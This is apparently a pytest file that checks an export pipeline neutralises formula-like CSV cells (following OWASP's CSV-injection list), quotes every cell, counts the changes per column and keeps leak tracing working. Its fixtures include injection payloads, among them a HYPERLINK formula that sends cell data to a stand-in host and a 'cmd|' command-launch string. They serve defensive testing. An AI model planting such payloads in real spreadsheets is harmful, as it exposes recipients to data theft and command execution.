"""What reaches the recipient is safe to open: formula-like cells (OWASP's CSV-injection list)
are neutralised with a single quote, every cell is quoted, each column's count is in the
findings, and the row digests and leak tracing still recognise the rows."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import polars as pl
import pytest

from ecluse.db.models import Package
from ecluse.packages.output import neutralise
from ecluse.services.breach import read_sample, trace
from ecluse.synth import write_export
from tests.age_tools import Identity
from tests.packages.conftest import Export, Migration, opened

CELLS = [  # (value as governed, cell as the recipient gets it)
    ("=1+2", "'=1+2"),
    (
        '=HYPERLINK("http://evil.example/?"&A1;"open")',
        '\'=HYPERLINK("http://evil.example/?"&A1;"open")',
    ),
    ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),  # a phone, as OWASP says: text from now on
    ("-42", "'-42"),  # a negative number too
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'=1+1", "''=1+1"),  # quotes already in front get one more: undone by removing one
    ("''+1", "'''+1"),
    ("'plain", "'plain"),
    ("a=b", "a=b"),
    ("Dupont-Durand", "Dupont-Durand"),
    ("O+", "O+"),
    (" =1", " =1"),  # a space first: not a formula
    ("", ""),
]
DANGER = r"^[=+\-@\t\r]"
NEUTRALISED = r"^'+[=+\-@\t\r]"


@pytest.mark.parametrize(("value", "cell"), CELLS)
def test_a_formula_like_cell_is_neutralised(value: str, cell: str) -> None:
    rows = pl.DataFrame({"birth_name": [value, "Martin"], "sex": ["F", "M"]})
    safe, counts = neutralise(rows)
    assert safe["birth_name"].to_list() == [cell, "Martin"]
    assert counts == {"birth_name": int(cell != value), "sex": 0}


def test_counts_are_per_column() -> None:
    rows = pl.DataFrame(
        {
            "birth_name": [v for v, _ in CELLS],
            "first_names": ["+1"] * len(CELLS),
            "sex": ["F"] * len(CELLS),
        }
    )
    safe, counts = neutralise(rows)
    changed = sum(v != c for v, c in CELLS)
    assert counts == {"birth_name": changed, "first_names": len(CELLS), "sex": 0}
    assert not any(safe[c].str.contains(DANGER).any() for c in safe.columns)


INJECTED = {  # source header -> values put into in-scope rows of the export
    "NOM_NAISSANCE": ["=1+2", '=HYPERLINK("http://evil.example/")', "-42", "'=7"],
    "PRENOMS": ["+33 6 12 34 56 78", "@SUM(1+1)"],
    "GROUPE_SANGUIN": ["-"],
}


def _poisoned(export: Export) -> Export:
    frame = export.frame
    targets = iter(export.in_scope()["NIR"].head(20).to_list())
    for column, values in INJECTED.items():
        for value in values:
            nir = next(targets)
            frame = frame.with_columns(
                pl.when(pl.col("NIR") == nir).then(pl.lit(value)).otherwise(pl.col(column))
                .alias(column)
            )  # fmt: skip
    buf = io.BytesIO()
    write_export(frame, buf)
    return Export(frame, buf.getvalue())


_QUOTED_LINE = re.compile(rb'^"(?:[^"]|"")*"(?:;"(?:[^"]|"")*")*$')


def test_the_package_is_safe_to_open_and_still_traceable(
    migration: Migration, identity: Identity, tmp_path: Path
) -> None:
    platform, rita = migration.platform, migration.parties["rita"]
    export = _poisoned(migration.export)
    iid = migration.instruct(expected_rows=export.in_scope().height, tolerance_percent=0)
    outcome = migration.run("olga", iid, export.data)
    got = opened(platform, rita, identity, outcome.package_id)
    # every cell quoted, header included
    assert all(_QUOTED_LINE.match(line) for line in got.plaintext.rstrip(b"\n").split(b"\n"))
    rows = pl.read_csv(io.BytesIO(got.plaintext), separator=";", infer_schema=False)
    for column in rows.columns:  # nothing starts as a formula
        assert not rows[column].fill_null("").str.contains(DANGER).any(), column
    names, first = rows["birth_name"].to_list(), rows["first_names"].to_list()
    for cell in ("'=1+2", '\'=HYPERLINK("http://evil.example/")', "'-42", "''=7"):
        assert cell in names
    assert "'+33 6 12 34 56 78" in first and "'@SUM(1+1)" in first
    assert "'-" in rows["blood_group"].to_list()
    # counted per column, in the findings of the run and of the manifest
    marked = {c: int(rows[c].fill_null("").str.contains(NEUTRALISED).sum()) for c in rows.columns}
    expected = {c: n for c, n in marked.items() if n}
    assert expected["birth_name"] >= 4 and expected["first_names"] >= 2
    assert {c: n for c, n in outcome.findings.neutralised.items() if n} == expected
    with platform.db.transaction() as s:
        package = s.get(Package, outcome.package_id)
        assert package is not None
        manifest = json.loads(package.manifest)
    assert manifest["findings"]["neutralised"] == expected
    # a leak of the file as received, or as a spreadsheet saves it again, names the package
    sample = rows.sample(40, seed=3)
    poisoned = rows.filter(pl.col("birth_name").str.starts_with("'"))
    sample = pl.concat([sample, poisoned]).unique(maintain_order=True)
    as_received, resaved = tmp_path / "leak.csv", tmp_path / "resaved.csv"
    sample.write_csv(as_received, separator=";")
    sample.with_columns(pl.all().str.replace(r"^'", "")).write_csv(resaved, separator=";")
    for leak in (as_received, resaved):
        [match] = trace(platform, read_sample(leak), actor="local:test")
        assert (match.package_id, match.rows_matched) == (outcome.package_id, sample.height)
